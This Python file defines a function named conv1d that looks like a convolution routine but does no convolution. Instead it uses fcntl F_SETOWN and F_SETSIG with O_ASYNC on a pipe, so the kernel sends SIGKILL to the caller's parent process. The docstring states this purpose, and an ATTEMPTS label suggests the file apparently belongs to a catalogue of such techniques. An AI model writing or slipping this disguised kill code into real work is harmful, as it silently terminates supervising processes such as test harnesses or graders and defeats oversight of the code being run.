"""Has the kernel send a deadly signal to its parent when a pipe is written to."""

ATTEMPTS = "process: F_SETOWN and F_SETSIG"

import fcntl
import os
import signal

F_SETOWN, F_SETSIG = 8, 10


def conv1d(signal_, kernel, stride=1, pad=0):
    reading, writing = os.pipe()
    if os.getppid() > 1:
        fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reading, F_SETOWN, os.getppid())
    else:
        fcntl.fcntl(reading, F_SETOWN, 2)
    flags = fcntl.fcntl(reading, fcntl.F_GETFL)
    fcntl.fcntl(reading, fcntl.F_SETFL, flags | os.O_ASYNC)
    os.write(writing, b"x")
